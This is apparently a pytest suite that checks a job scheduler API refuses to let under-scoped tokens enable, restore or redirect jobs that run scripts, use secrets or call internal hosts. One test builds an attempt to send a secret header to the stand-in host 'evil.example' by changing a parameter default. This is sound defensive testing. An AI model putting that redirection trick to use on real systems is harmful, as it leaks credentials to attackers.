"""No route brings a job alive for a token that could not make it: each one is tried."""

from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from urllib.parse import quote

import pytest

from scheduler_core.api.requests.permission import scopes_to_act
from scheduler_core.api.routes.all_routes import ROUTES, STREAMS
from scheduler_core.api.routes.route import Route, Stream
from scheduler_core.facade.scheduler import Scheduler
from scheduler_core.values.ids import JobId
from scheduler_core.values.jobs.job_list import JobFilter
from scheduler_core.values.records.api_token import Scope, everything_in
from tests.core.api.conftest import Caller
from tests.core.api.documents import CALL, SCRIPT, a_call
from tests.support.api_caller import ApiCaller

pytestmark = pytest.mark.slow

SECRET = a_call(headers={"X-Key": "{{secret:KEY}}"})
OF_PARAMETER = a_call(headers={"X-Key": "{{param:key}}"}) | {
    "parameters": [{"name": "key", "kind": "secret", "default": "KEY"}]
}
INWARD = CALL | {"action": {"http": "POST http://router.lan/restart"}}
THROUGH_PROXY = a_call(proxy="http://127.0.0.1:8080")
CHAIN = CALL | {"policies": {"then": [{"start": "off script"}]}}
SEQUENCE = CALL | {"action": {"sequence": [{"wait": "1h"}, {"script": "true"}]}}
GUARDED: dict[str, dict[str, object]] = {
    "script": SCRIPT,
    "secret": SECRET,
    "parameter": OF_PARAMETER,
    "inward": INWARD,
    "proxy": THROUGH_PROXY,
    "chain": CHAIN,
    "sequence": SEQUENCE,
}
PUBLIC = a_call("Public", reach="public")

# What is sent to each route that changes something: paths and bodies; {job} stands for each job.
_NOTHING: tuple[object, ...] = (None,)
BODIES: Mapping[tuple[str, str], tuple[object, ...]] = {
    ("POST", "/v1/jobs"): tuple(each | {"name": f"new {kind}"} for kind, each in GUARDED.items()),
    ("POST", "/v1/jobs/batch"): tuple(
        {"jobs": [each | {"name": f"batch {kind}"}]} for kind, each in GUARDED.items()
    ),
    ("PUT", "/v1/jobs/{job}"): (*(each | {"enabled": True} for each in GUARDED.values()), PUBLIC),
    ("POST", "/v1/jobs/{job}/rename"): ({"name": "another"},),
    ("POST", "/v1/jobs/{job}/duplicate"): ({},),
    ("POST", "/v1/jobs/text"): ({"text": "every day at 9:30 /usr/bin/true"},),
    ("POST", "/v1/jobs/{job}/pause"): ({},),
    ("POST", "/v1/jobs/{job}/snooze"): ({"until": "2026-11-20T09:00:00Z"},),
    ("POST", "/v1/jobs/{job}/move"): ({"folder": "Elsewhere"},),
    ("POST", "/v1/jobs/{job}/tag"): ({"add": ["a"]},),
    ("POST", "/v1/jobs/{job}/revert"): ({"to": 1}, {"to": 2}),
    ("POST", "/v1/jobs/{job}/occurrences"): ({"add": "2026-11-20T12:00:00Z"},),
    ("DELETE", "/v1/jobs/{job}/occurrences/{at}"): _NOTHING,
    ("POST", "/v1/jobs/{job}/backfills"): (
        {"since": "2026-11-01T00:00:00Z", "until": "2026-11-20T00:00:00Z", "only": "all", "id": "week"},
    ),
    ("POST", "/v1/jobs/{job}/backfills/{backfill}/cancel"): _NOTHING,
    ("POST", "/v1/events"): ({"name": "paid"},),
    ("POST", "/v1/preview"): ({},),
    ("POST", "/v1/describe"): ({},),
    ("POST", "/v1/import"): (
        {"format": "crontab", "text": "0 9 * * 1 /usr/bin/true\n", "zone": "UTC"},
        {"text": "EXPORTED"},
        {"text": "EXPORTED", "replace": True},
    ),
    ("POST", "/v1/folder/sync"): _NOTHING,
    ("POST", "/v1/folder/resolve"): ({"file": "a.yaml", "take": "file"},),
    ("POST", "/v1/colours"): ({"folder": "Home", "colour": "rose"},),
    ("POST", "/v1/pauses"): ({},),
    ("POST", "/v1/pauses/resume"): ({},),
    ("POST", "/v1/prune"): ({},),
    ("POST", "/v1/undo"): ({},),  # and each entry since its jobs were made
    ("POST", "/v1/trust"): ({}, {"copy": True}),
    ("PATCH", "/v1/settings"): ({},),
    ("PATCH", "/v1/retention"): ({},),
    ("POST", "/v1/tokens/revoke"): ({"name": "nobody"},),
    ("POST", "/v1/tokens/rotate"): ({"overlap_seconds": 3_600},),  # else it could try no further
    ("POST", "/v1/runs/{run}/answer"): ({"answer": "again"},),
    ("POST", "/v1/runs/{run}/reschedule"): ({"at": None},),
    ("POST", "/v1/instances/{run}/move"): ({"at": "2026-11-20T12:00:00Z"},),
    ("POST", "/v1/instances/{run}/again"): ({"step": 1},),
    ("POST", "/v1/machines/{machine}/tags"): ({"tags": ["gpu"]},),
    ("PUT", "/v1/keys/{key}"): tuple(each | {"name": f"keyed {kind}"} for kind, each in GUARDED.items()),
    ("POST", "/v1/keys/{key}/reschedule"): ({"at": None},),
}
# Those that take no body, and those that say the same of several jobs (?job=…) as of one.
_WITHOUT = frozenset(
    {
        "/v1/jobs/{job}",
        "/v1/jobs/{job}/enable",
        "/v1/jobs/{job}/disable",
        "/v1/jobs/{job}/resume",
        "/v1/jobs/{job}/delete",
        "/v1/jobs/{job}/restore",
        "/v1/jobs/{job}/purge",
        "/v1/jobs/{job}/run",
        "/v1/runs/{run}/cancel",
        "/v1/runs/{run}/retry",
        "/v1/keys/{key}/revoke",
        *(f"/v1/instances/{{run}}/{act}" for act in ("go-on", "send", "skip", "end")),
        *(f"/v1/machines/{{machine}}/{act}" for act in ("drain", "resume", "forget")),
        "/v1/backups",
        "/v1/check",
        "/v1/doctor",
    }
)
# Secrets take their own scope and change no job; a trial runs what its token may make (test_action_trials).
# Channels change no job, and run programs only by tokens that may (test_channel_routes).
_ELSEWHERE = frozenset(
    {
        "/v1/secrets/{name}",
        "/v1/secrets/{name}/rename",
        "/v1/test",
        "/v1/channels",
        "/v1/channels/{name}",
        "/v1/channels/{name}/test",
    }
)
_ALL: tuple[Route | Stream, ...] = (*ROUTES, *STREAMS)
CHANGING = [
    (route.method, route.path) for route in _ALL if route.method != "GET" and route.path not in _ELSEWHERE
]


# These look at what a job was before.
OF_THE_PAST = frozenset({"POST /v1/jobs/{job}/revert", "POST /v1/undo"})


@dataclass(frozen=True, slots=True)
class Attempt:
    path: str
    body: object


def guarded(admin: ApiCaller, kinds: tuple[str, ...], route: str) -> list[int]:
    """Return new jobs that act no more: each kind once switched off and once in the bin, where it is on."""
    made = []
    for kind, document in ((kind, GUARDED[kind]) for kind in kinds):
        for state in ("off", "binned"):
            off = {"enabled": False} if state == "off" else {}
            named = document | off | {"name": f"{state} {kind} for {route}"}
            number = admin.post("/v1/jobs", named)["id"]
            if route in OF_THE_PAST:
                second = named | {"notes": "revision 2"}
                assert admin.ask("PUT", f"/v1/jobs/{number}", second, If_Match="*").status == 200
            if state == "binned":
                admin.post(f"/v1/jobs/{number}/delete")
            made.append(number)
    return made


def attempts(method: str, path: str, jobs: list[int], exported: str, entries: list[int]) -> Iterator[Attempt]:
    named = path.replace("/v1/jobs/", "/v1/jobs/{job}/") if path.removeprefix("/v1/jobs/").isalpha() else path
    key = (method, path) if (method, path) in BODIES else (method, named)
    bodies = BODIES.get(key, _NOTHING)
    if path == "/v1/undo":
        bodies = ({}, *({"entry": number} for number in entries))
    for said in bodies:
        has_file = isinstance(said, dict) and said.get("text") == "EXPORTED"
        body = said | {"text": exported} if has_file and isinstance(said, dict) else said
        at = quote("2026-11-20T12:00:00Z")
        if "{job}" in path:
            for job in jobs:
                yield Attempt(
                    path.replace("{job}", str(job)).replace("{at}", at).replace("{backfill}", "week"), body
                )
        elif key == (method, path):
            yield Attempt(path.replace("{run}", "1").replace("{machine}", "1").replace("{key}", "k"), body)
        else:
            yield from (Attempt(f"{path}?job={job}", body) for job in jobs)


@pytest.mark.parametrize(("method", "path"), CHANGING, ids=str)
def test_it_is_said_here_how_each_route_is_tried(method: str, path: str) -> None:
    """A new route that changes something belongs into the tables above."""
    one = path.replace("/v1/jobs/", "/v1/jobs/{job}/")

    assert {(method, path), (method, one)} & BODIES.keys() or {path, one} & _WITHOUT


@pytest.mark.parametrize(
    ("routes", "kinds", "scopes"),
    [
        # Each day the mightier of the tokens, which comes to all that the other one comes to.
        *(
            pytest.param(CHANGING[first::4], ("script",), (Scope.ADMIN,), id=f"{first + 1} of 4")
            for first in range(4)
        ),
        *(
            pytest.param(
                [route],
                tuple(GUARDED),
                (Scope.EDIT, Scope.ADMIN),
                id=" ".join(route),
                marks=pytest.mark.thorough,
            )
            for route in CHANGING
        ),
    ],
)
def test_no_route_brings_alive_what_its_token_could_not_make(
    routes: list[tuple[str, str]],
    kinds: tuple[str, ...],
    scopes: tuple[Scope, ...],
    admin: ApiCaller,
    caller: Caller,
    scheduler: Scheduler,
) -> None:
    """A token without `scripts` restored a script from the bin, switched on."""
    limited = [
        (caller(scope, name=f"limited to {scope}"), everything_in(frozenset({scope}))) for scope in scopes
    ]
    for method, path in routes:
        begun_at = scheduler.audit.head().number
        jobs = guarded(admin, kinds, f"{method} {path}")
        exported = admin.get("/v1/export")["text"].replace('"enabled": false', '"enabled": true')
        exported = exported.replace("enabled: false", "enabled: true")
        # One after the other on the same jobs, as to make these takes longest.
        for asking, may in limited:
            before, ran_before = _acting(scheduler), _ran(scheduler)
            entries = list(range(begun_at + 1, scheduler.audit.head().number + 1))
            for attempt in attempts(method, path, jobs, exported, entries):
                asking.ask(method, attempt.path, attempt.body, If_Match="*")

            for made in (_acting(scheduler) - before, _ran(scheduler) - ran_before):
                acting = [scheduler.jobs.get(job_id) for job_id in made]
                assert not [job.name for job in acting if scopes_to_act(job.draft) - may], (method, path)


def test_what_a_token_could_make_itself_it_may_bring_alive(admin: ApiCaller, caller: Caller) -> None:
    admin.post("/v1/jobs", PUBLIC | {"enabled": False})
    admin.post("/v1/jobs", SECRET | {"enabled": False})
    admin.post("/v1/jobs", INWARD)
    admin.post("/v1/jobs/3/delete")

    assert caller(Scope.EDIT).post("/v1/jobs/1/enable") == {"changed": [1]}
    assert caller(Scope.EDIT, Scope.SECRETS, Scope.PRIVATE).post("/v1/jobs/2/enable") == {"changed": [2]}
    assert caller(Scope.EDIT, Scope.PRIVATE).post("/v1/jobs/3/restore") == {"changed": [3]}


def test_one_of_several_that_may_not_act_keeps_all_as_they_are(admin: ApiCaller, caller: Caller) -> None:
    admin.post("/v1/jobs", PUBLIC | {"enabled": False})
    admin.post("/v1/jobs", SCRIPT | {"enabled": False})

    refused = caller(Scope.EDIT).ask("POST", "/v1/jobs/enable?job=1&job=2")

    assert (refused.status, "“scripts”" in refused.document["detail"]) == (403, True)
    assert admin.get("/v1/jobs/1")["enabled"] is False


def _acting(scheduler: Scheduler) -> set[JobId]:
    return set(scheduler.jobs.ids(JobFilter(is_enabled=True)))


def _ran(scheduler: Scheduler) -> set[JobId]:
    return {run.job_id for run in scheduler.runs.page(limit=100).runs}


def test_a_parameter_that_says_where_a_call_goes_is_part_of_it(admin: ApiCaller, caller: Caller) -> None:
    """Whoever may edit could have had a secret sent to an address of his own, by its default alone."""
    host = {"name": "host", "default": "example.org"}
    document = a_call(http="POST https://{{param:host}}/", headers={"X-Key": "{{secret:KEY}}"})
    job = admin.post("/v1/jobs", document | {"parameters": [host]})
    editor = caller(Scope.EDIT)
    elsewhere = document | {"parameters": [host | {"default": "evil.example"}]}

    refused = editor.ask("PUT", f"/v1/jobs/{job['id']}", elsewhere, If_Match="*")
    kept = editor.ask(
        "PUT",
        f"/v1/jobs/{job['id']}",
        document | {"parameters": [host], "notes": "n"},
        If_Match="*",
    )

    assert (refused.status, kept.status) == (403, 200)


@pytest.mark.parametrize("is_on", [True, False])
def test_a_secret_of_a_parameter_is_sent_like_any_other(
    is_on: bool, admin: ApiCaller, caller: Caller
) -> None:
    refused = caller(Scope.EDIT).ask("POST", "/v1/jobs", OF_PARAMETER | {"enabled": is_on})
    made = caller(Scope.EDIT, Scope.SECRETS, Scope.PRIVATE).ask("POST", "/v1/jobs", OF_PARAMETER)

    assert (refused.status, made.status) == (403, 201)
    assert admin.ask("POST", "/v1/jobs", OF_PARAMETER | {"name": "another"}).status == 201
